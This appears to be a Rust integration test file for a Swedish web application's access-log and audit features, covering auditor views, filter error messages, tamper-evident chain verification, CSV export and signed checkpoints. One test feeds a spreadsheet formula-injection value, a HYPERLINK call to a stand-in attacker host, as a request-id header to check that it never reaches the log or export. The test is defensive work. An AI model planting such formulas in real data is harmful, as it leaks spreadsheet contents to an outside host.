use axum::http::StatusCode;
use diesel::RunQueryDsl;
use etablera_domain::access::Role;

use crate::support::TestApp;

#[tokio::test]
async fn the_auditor_sees_logins_and_reads_in_the_log() {
    let app = TestApp::new();
    app.add_user("admin", &[Role::Admin]);
    app.add_user("granskare", &[Role::Auditor]);
    let admin = app.login("admin").await;
    assert_eq!(app.get("/admin/users", Some(&admin)).await.status, StatusCode::OK);
    let auditor = app.login("granskare").await;
    let page = app.get("/audit?actor=admin", Some(&auditor)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("Inloggning"));
    assert!(page.body.contains("Läsning"), "the admin's reading of the user list is logged");
    assert!(!page.body.contains("Testperson admin"), "the log shows ids and user names, not the data read");

    let json = app.get("/api/v1/access-log?actor=admin&action=read", Some(&auditor)).await.json();
    let rows = json["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["record_kind"], "user");
    assert_eq!(rows[0]["actor_username"], "admin");
    let at = chrono::DateTime::parse_from_rfc3339(rows[0]["at"].as_str().unwrap()).expect("RFC 3339 with an offset");
    assert!(matches!(at.offset().local_minus_utc(), 3600 | 7200), "Stockholm's offset: {at}");
}

#[tokio::test]
async fn bad_filters_get_a_clear_message() {
    let app = TestApp::new();
    app.add_user("granskare", &[Role::Auditor]);
    let auditor = app.login("granskare").await;
    let page = app.get("/audit?from=1%2F11%2F2026&actor=ingen", Some(&auditor)).await;
    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.body.contains("Skriv datumet som ÅÅÅÅ-MM-DD"));
    assert!(page.body.contains("Det finns ingen användare med det användarnamnet."));
    let api = app.get("/api/v1/access-log?from=2026-11-20&to=2026-11-01", Some(&auditor)).await;
    assert_eq!(api.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(api.json()["error"]["code"], "invalid");
    assert_eq!(api.json()["error"]["field"], "to");
    assert_eq!(api.json()["error"]["message"], "Till-datumet kan inte vara före från-datumet.");
    let english = |path: &str| {
        TestApp::request(axum::http::Method::GET, path, Some(&auditor))
            .header("accept-language", "en")
            .body(axum::body::Body::empty())
            .unwrap()
    };
    let page = app.send(english("/audit?from=1%2F11%2F2026")).await;
    assert!(page.body.contains("Write the date as YYYY-MM-DD"), "{}", page.body);
    let api = app.send(english("/api/v1/access-log?from=2026-11-20&to=2026-11-01")).await;
    assert_eq!(api.json()["error"]["message"], "The to-date cannot be before the from-date.");
}

#[tokio::test]
async fn verification_names_the_first_edited_row() {
    let app = TestApp::new();
    app.add_user("granskare", &[Role::Auditor]);
    let auditor = app.login("granskare").await;
    let intact = app.get("/api/v1/access-log/verify", Some(&auditor)).await.json();
    assert_eq!(intact["intact"], true);
    let page = app.get("/audit/verify", Some(&auditor)).await;
    assert!(page.body.contains("Kedjan är hel"));

    app.db
        .store
        .with_conn(|conn| {
            diesel::sql_query("UPDATE access_log SET action = 'read' WHERE id = 2").execute(conn)?;
            Ok(())
        })
        .unwrap();
    let broken = app.get("/api/v1/access-log/verify", Some(&auditor)).await.json();
    assert_eq!(broken["intact"], false);
    assert_eq!(broken["first_broken_row"], 2);
    let page = app.get("/audit/verify", Some(&auditor)).await;
    assert!(page.body.contains("Kedjan är bruten vid rad 2"), "{}", page.body);
}

#[tokio::test]
async fn the_export_is_csv_for_the_monthly_review_and_is_itself_logged() {
    let app = TestApp::new();
    app.add_user("granskare", &[Role::Auditor]);
    let auditor = app.login("granskare").await;
    let today = chrono::Utc::now().date_naive();
    let answer = app
        .get(
            &format!("/audit/export.csv?from={}&to={}", today.pred_opt().unwrap(), today.succ_opt().unwrap()),
            Some(&auditor),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(answer.headers["content-type"], "text/csv; charset=utf-8");
    assert!(answer.headers["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"atkomstlogg-"));
    let lines: Vec<&str> = answer.body.trim_start_matches('\u{feff}').lines().collect();
    assert!(lines[0].starts_with("rad,"));
    assert!(lines.iter().any(|l| l.contains(",granskare,login,user,")));
    assert!(lines.last().unwrap().contains(",export,access_log,"), "the export's own row is in it");
}

#[tokio::test]
async fn the_server_makes_its_own_request_id_and_a_clients_lands_nowhere_unless_it_is_a_short_token() {
    let app = TestApp::new();
    app.add_user("granskare", &[Role::Auditor]);
    let auditor = app.login("granskare").await;
    let huge = "a".repeat(60 * 1024);
    let formula = "=HYPERLINK(\"http://angripare.example/?\"&A1,\"Klicka\")";
    for client_id in [huge.as_str(), formula, "klientens-id.42"] {
        let request = TestApp::request(axum::http::Method::GET, "/audit", Some(&auditor))
            .header("x-request-id", client_id)
            .body(axum::body::Body::empty())
            .unwrap();
        let answer = app.send(request).await;
        assert_eq!(answer.status, StatusCode::OK);
        let id = answer.headers["x-request-id"].to_str().unwrap();
        assert!(uuid::Uuid::parse_str(id).is_ok() && id != client_id, "the server's own id: {id}");
    }
    let ids: Vec<Option<String>> = app
        .db
        .store
        .with_conn(|conn| {
            use diesel::prelude::*;
            use etablera_store::schema::access_log;
            Ok(access_log::table.select(access_log::request_id).load(conn)?)
        })
        .unwrap();
    assert!(
        ids.iter().flatten().all(|id| uuid::Uuid::parse_str(id).is_ok()),
        "every logged request carries the server's id, none the client's: {ids:?}"
    );
    let today = chrono::Utc::now().date_naive();
    let csv = app.get(&format!("/audit/export.csv?from={today}&to={today}"), Some(&auditor)).await;
    assert!(!csv.body.contains("HYPERLINK") && !csv.body.contains(&huge[..100]));
}

#[tokio::test]
async fn the_verification_holds_the_chain_to_the_servers_signed_checkpoints() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("nyckel");
    std::fs::write(&key, "7e".repeat(32)).unwrap();
    let file = etablera_store::access::checkpoints::CheckpointFile::open(&dir.path().join("punkter"), &key).unwrap();
    let config = etablera_web::WebConfig { checkpoints: Some(file.clone()), ..etablera_web::WebConfig::default() };
    let app = TestApp::with_config(config);
    app.add_user("granskare", &[Role::Auditor]);
    let auditor = app.login("granskare").await;
    let taken = app.db.store.with_conn(|conn| file.take(conn, &etablera_store::testing::cli())).unwrap().unwrap();
    assert!(matches!(taken, etablera_store::access::checkpoints::Taken::Added(_)));
    let page = app.get("/audit/verify", Some(&auditor)).await;
    assert!(page.body.contains("Kedjan stämmer med 1 signerade kontrollpunkter."), "{}", page.body);
    let json = app.get("/api/v1/access-log/verify", Some(&auditor)).await.json();
    assert_eq!((json["intact"].as_bool(), json["checkpoints_checked"].as_u64()), (Some(true), Some(1)));

    // Someone edits the checkpoint file: nothing in it can be trusted any more.
    let text = std::fs::read_to_string(&file.path).unwrap();
    std::fs::write(&file.path, text.replace("rows=", "rows=1")).unwrap();
    let page = app.get("/audit/verify", Some(&auditor)).await;
    assert!(page.body.contains("Kontrollpunkterna går inte att lita på: rad 1 i kontrollpunktsfilen"), "{}", page.body);
    let json = app.get("/api/v1/access-log/verify", Some(&auditor)).await.json();
    assert_eq!(json["intact"], false);
}
